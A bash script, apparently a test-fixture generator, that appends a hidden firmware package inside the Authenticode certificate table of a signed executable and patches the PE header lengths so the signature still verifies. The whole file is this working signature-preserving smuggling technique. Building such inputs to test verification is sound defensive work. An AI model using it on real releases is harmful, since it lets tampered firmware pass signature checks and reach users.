#!/usr/bin/env bash
# Makes the copy an attacker would make of a signed release: a second,
# complete firmware package hidden at the end of its certificate table, which
# Authenticode does not hash, so the signature still verifies.
#
# Usage: hide_package.sh --signed SIGNED_EXE --hidden FILE --out OUT_EXE
#   FILE ends with the package to hide (an executable with a package appended).
set -euo pipefail

signed="" hidden="" out=""
while [ $# -gt 0 ]; do
  case "$1" in
    --signed) signed="$2"; shift 2 ;;
    --hidden) hidden="$2"; shift 2 ;;
    --out) out="$2"; shift 2 ;;
    *) echo "hide_package: unknown argument $1" >&2; exit 2 ;;
  esac
done
if [ -z "$signed" ] || [ -z "$hidden" ] || [ -z "$out" ]; then
  echo "hide_package: --signed, --hidden and --out are required" >&2
  exit 2
fi

le32_at() { od -An -tu4 -j "$2" -N 4 "$1" | tr -d ' '; }
put_le32() {
  local value=$3
  printf "$(printf '\\x%02x\\x%02x\\x%02x\\x%02x' $((value & 255)) $(((value >> 8) & 255)) \
    $(((value >> 16) & 255)) $(((value >> 24) & 255)))" |
    dd of="$1" bs=1 seek="$2" conv=notrunc status=none
}

pe_at=$(le32_at "$signed" 60)
# A 64-bit image: the security entry is the fifth data directory.
entry_at=$((pe_at + 24 + 112 + 4 * 8))
table_at=$(le32_at "$signed" "$entry_at")
table_size=$(le32_at "$signed" $((entry_at + 4)))
if [ "$table_at" -eq 0 ] || [ $((table_at + table_size)) -ne "$(stat -c %s "$signed")" ]; then
  echo "hide_package: $signed has no certificate table at its end" >&2
  exit 1
fi

# The hidden file goes at the end of the table's one certificate entry, after
# its signature and as many zero bytes as keep the entry a whole number of 8
# bytes long, so its package's trailer is the file's last 34 bytes; the
# entry's length and the header's security entry grow by as much. The PKCS #7
# signature inside the entry stays as it was.
cp "$signed" "$out"
pad=$(((8 - (table_size + $(stat -c %s "$hidden")) % 8) % 8))
head -c "$pad" /dev/zero >>"$out"
cat "$hidden" >>"$out"
new_size=$(($(stat -c %s "$out") - table_at))
put_le32 "$out" "$table_at" "$new_size"
put_le32 "$out" $((entry_at + 4)) "$new_size"
echo "hid $(basename "$hidden") in the certificate table of $(basename "$out")"
